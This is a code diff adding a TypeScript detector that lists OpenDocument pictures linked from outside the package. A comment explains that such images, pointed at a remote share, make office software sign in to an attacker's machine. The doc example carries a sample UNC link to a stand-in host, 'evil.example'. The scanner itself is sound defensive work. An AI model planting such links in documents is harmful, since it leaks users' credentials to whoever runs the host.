@@ -136,6 +136,32 @@ export function odfExternalLinks(markup: string): string[] {
   return links;
 }
 
+// OpenDocument pictures linked from outside the package (`draw:image`, a fill or background image): drawn, never run,
+// so listed by their names alone, but LibreOffice (and Word, opening an `.odt`) loads each as the document opens, and
+// one on another computer (`\\host\share\logo.png`) signs in to it as the user (attacker round 118).
+const ODF_PICTURE = new RegExp(
+  `<${XML_PREFIX}(?:image|fill-image|background-image)(?=[\\s/>])((?:[^<>"']|"[^<"]*"|'[^<']*')*)`,
+  'gi',
+);
+
+/**
+ * The `xlink:href` of each OpenDocument picture loaded from outside the package ({@link odfExternalLinks}' reading
+ * of a package path). Linear in its size.
+ *
+ * @example
+ * ```ts
+ * odfLinkedPictures('<draw:image xlink:href="file:///\\\\evil.example\\s\\logo.png"/>'); // ['file:///\\\\evil.example\\s\\logo.png']
+ * ```
+ */
+export function odfLinkedPictures(markup: string): string[] {
+  if (!/href/i.test(markup)) return [];
+  const links: string[] = [];
+  for (const m of markup.matchAll(ODF_PICTURE))
+    for (const [name, value] of xmlAttributes(m[1] as string))
+      if (name.slice(name.lastIndexOf(':') + 1) === 'href' && !isPackagePath(value)) links.push(value);
+  return links;
+}
+
 function isPackagePath(href: string): boolean {
   if (href.startsWith('/') || href.startsWith('..')) return false;
   const slash = href.indexOf('/', 1);
